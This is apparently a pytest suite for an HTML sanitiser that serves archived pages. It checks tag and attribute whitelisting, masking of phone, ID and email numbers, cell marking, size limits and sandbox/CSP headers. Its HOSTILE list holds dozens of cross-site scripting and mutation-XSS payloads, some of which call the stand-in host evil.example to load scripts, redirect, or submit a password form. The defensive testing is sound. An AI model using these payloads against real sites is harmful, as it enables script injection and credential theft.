"""Sanitised copies of archived pages: hostile markup, masked numbers, the marked cell, the policy."""

import pytest
from lxml import html

from archive.publication.sanitised import LIMIT, Unshowable, Wanted, sanitised
from archive.publication.security import FRAMED_POLICY, POLICY
from tests.archive.publication.conftest import Get
from tests.archive.publication.fixture import COUNTY_ID, HOSTILE_CELL, OFFICE_ID, Archive

ALLOWED = {
    "html", "body", "article", "b", "blockquote", "br", "caption", "center", "col", "colgroup", "dd", "del", "div",
    "dl", "dt", "em", "footer", "h1", "h2", "h3", "h4", "h5", "h6", "header", "hr", "i", "ins", "li", "main",
    "ol", "p", "pre", "section", "small", "span", "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th",
    "thead", "tr", "u", "ul",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"rowspan", "colspan", "border"}
E = "evil.example"
HOSTILE = (
    "<script>alert(1)</script>",
    f"<ScRiPt src=//{E}/x.js></sCrIpT >",
    "<img src=x onerror=alert(1)>",
    f"<img srcset='//{E}/1.png 2x' src='data:image/svg+xml,<svg onload=alert(1)>'>",
    f"<picture><source srcset=//{E}/1.png></picture>",
    "<svg onload=alert(1)><script>alert(1)</script><use href='data:image/svg+xml,<svg id=x>'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x&gt;'></table></math>",
    "<math href=javascript:alert(1)><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    f"<style>@import url(//{E}/x.css); body{{background:url(//{E}/x.png)}}</style>",
    f"<link rel=stylesheet href=//{E}/x.css><link rel=prefetch href=//{E}/>",
    f"<p style='background:url(//{E}/x);position:fixed;inset:0'>p</p>",
    f"<base href=//{E}/><a href=login>login</a>",
    f"<meta http-equiv=refresh content='0;url=//{E}/'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<a href='javascript:alert(1)'>a</a><a href=' &#1;javascript:alert(1)'>b</a><a href='data:text/html,x'>c</a>",
    f"<a href=//{E}/ ping=//{E}/ target=_top>d</a>",
    f"<form action=//{E}/><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><iframe src=javascript:alert(1)></iframe>",
    f"<object data='data:text/html,<script>alert(1)</script>'><param name=src value=//{E}/></object>",
    f"<embed src=//{E}/x.swf><applet code=x></applet>",
    "<template><img src=x onerror=alert(1)></template><template shadowrootmode=open><script>x</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><img src=x onerror=alert(1)></xmp><noembed><img src=x onerror=alert(1)></noembed>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]><?php <img src=x onerror=alert(1)> ?>",
    f"<body onload=alert(1) background=//{E}/x.png><table background=//{E}/x><tr><td onclick=alert(1)>x",
    f"<video poster=//{E}/x onloadstart=alert(1)><source src=//{E}/x></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>s</summary></details><marquee onstart=alert(1)>m</marquee>",
    "<x onclick=alert(1) tabindex=1 id=x>x</x><td id=here bgcolor=#ffdf80>no<div id=main></div>",
    "<td rowspan=99999999 colspan=-1>x</td><table><tr><td rowspan=65534 colspan='2 onclick=1'>y</table>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<\x0cscript>alert(1)</script><scr\u200bipt>alert(1)</scr\u200bipt>",
    "<a\x0bhref='javascript:alert(1)'\x0conclick=alert(1)>z</a><img/src=x/onerror=alert(1)//",
)  # fmt: skip


def _check(body: str) -> None:
    for element in html.fromstring(f"<html><body>{body}</body></html>").iter():
        assert element.tag in ALLOWED, body
        for name, value in element.items():
            assert name in ALLOWED_ATTRIBUTES, body
            assert value == "1" if name == "border" else 0 < int(value) <= 1000, body
    assert "evil.example" not in body
    assert "<!--" not in body


@pytest.mark.parametrize("markup", HOSTILE)
def test_nothing_hostile_is_left(markup: str) -> None:
    copy = sanitised(f"<p>前文</p>{markup}".encode(), "utf-8")
    _check(copy.body)
    assert copy.body.startswith("<p>前文</p>")
    twice = sanitised(copy.body.encode() or b"<p>", "utf-8").body
    _check(twice)


def test_all_of_it_together_leaves_nothing_either() -> None:
    copy = sanitised("".join(f"<p>第{place}段</p>{markup}" for place, markup in enumerate(HOSTILE)).encode(), "utf-8")
    _check(copy.body)
    assert "第7段" in copy.body  # the eighth opens a style that nothing closes
    assert not copy.marked


def test_an_encoding_that_hides_markup_is_decoded_as_the_build_did() -> None:
    assert "年报" in sanitised("<p>年报<script>x</script>".encode("gb18030"), "gb18030").body
    _check(sanitised("<p>x</p><script>alert(1)</script>".encode("utf-16"), None).body)


@pytest.mark.parametrize(
    "words",
    [
        "电话13912345678",
        "电话139<b>1234</b>5678",
        "电话139\u200b1234<span><i></i></span>5678",
        "电话139<script>x</script>12345678",
        "电话139<!-- x -->12345678",
        "电话&#49;3912345678",
        "证件11010519900307<font>234X</font>",
        "邮箱someone<wbr>@<span>qq.com</span>",
    ],
)
def test_personal_numbers_are_masked_whatever_parts_them(words: str) -> None:
    shown = html.fromstring(sanitised(f"<div>前<p>{words}</p>后</div>".encode(), "utf-8").body).text_content()
    assert not {"12345678", "19900307", "someone"} & {
        part for part in ("12345678", "19900307", "someone") if part in shown
    }
    assert "***" in shown
    assert shown.startswith("前")
    assert shown.endswith("后")


def test_numbers_of_two_cells_are_not_taken_for_one() -> None:
    body = sanitised(b"<table><tr><td>1391<td>2345678</table>", "utf-8").body
    assert [cell.text for cell in html.fromstring(body).iter("td")] == ["1391", "2345678"]


TABLE = "<table><tr><th colspan=2>表 三<tr><td>新 收<td><b>4</b>7</table>"


def test_the_cell_is_marked_in_the_one_table_that_has_these_cells() -> None:
    wanted = Wanted(["表三", "新收", "47"], 2)
    copy = sanitised(f"<table><tr><td id=here bgcolor=#ffdf80>别的</table>{TABLE}".encode(), "utf-8", wanted)
    assert copy.marked
    assert '<td id="here" bgcolor="#ffdf80"><b>4</b>7</td>' in copy.body
    assert copy.body.count("here") == 1
    for other in (TABLE + TABLE, TABLE.replace("新", "旧"), "<p>47</p>"):
        unsure = sanitised(other.encode(), "utf-8", wanted)
        assert not unsure.marked
        assert "here" not in unsure.body


def test_pages_beyond_the_bounds_are_refused_or_said_to_be_cut() -> None:
    with pytest.raises(Unshowable):
        sanitised(b"x" * (LIMIT + 1), None)
    with pytest.raises(Unshowable):
        sanitised(b"<a>" * 70_000, None)
    with pytest.raises(Unshowable):
        sanitised(b"", None)
    assert not sanitised(b"<div>" * 50_000, None).whole
    assert sanitised(TABLE.encode(), None).whole


def test_a_copy_is_framed_under_its_own_policy_and_says_what_it_is(get: Get, archive: Archive) -> None:
    capture = archive.captures[archive.hostile.digest]
    outer = get(f"/en/capture/{capture}")
    frame = html.fromstring(outer.text).find(".//iframe")
    assert frame.get("sandbox") == ""
    assert outer.headers["content-security-policy"] == POLICY
    assert outer.headers["x-frame-options"] == "DENY"
    inner = get(frame.get("src"))
    assert inner.status_code == 200
    assert inner.headers.get_list("content-security-policy") == [FRAMED_POLICY]
    assert "sandbox" in FRAMED_POLICY
    assert "frame-ancestors 'self'" in FRAMED_POLICY
    assert inner.headers.get_list("x-frame-options") == ["SAMEORIGIN"]
    assert inner.headers["x-content-type-options"] == "nosniff"
    page = html.fromstring(inner.text)
    assert not page.xpath("//script | //img | //a | //@onerror | //link | //style")
    assert archive.hostile.url in page.text_content()
    assert "1 January 2026, 00:00:00 UTC" in page.text_content()
    assert "演示数据" in page.text_content()


def test_the_figure_of_a_page_is_framed_with_its_cell(get: Get) -> None:
    page = html.fromstring(get(f"/zh/figure/{OFFICE_ID}/2023/req_new.natural").text)
    source = page.xpath("string(//iframe/@src)")
    assert source.endswith("#here")
    assert "/page?table=1&row=0&column=1" in source
    inner = html.fromstring(get(source).text)
    assert not inner.xpath("//*[@id]")  # its table and the page do not agree
    assert "没有在页面中确切找到" in inner.text_content()
    assert HOSTILE_CELL not in get(source).text


def test_no_copy_of_what_is_withheld_or_no_page(get: Get, archive: Archive) -> None:
    hidden = get(f"/capture/{archive.captures[archive.withheld.digest]}/page")
    assert hidden.status_code == 410
    assert "不予展示" in hidden.text
    assert get(f"/capture/{archive.captures[archive.pdf.digest]}/page").status_code == 404
    assert "<iframe" not in get(f"/figure/{COUNTY_ID}/2024/req_new.natural").text
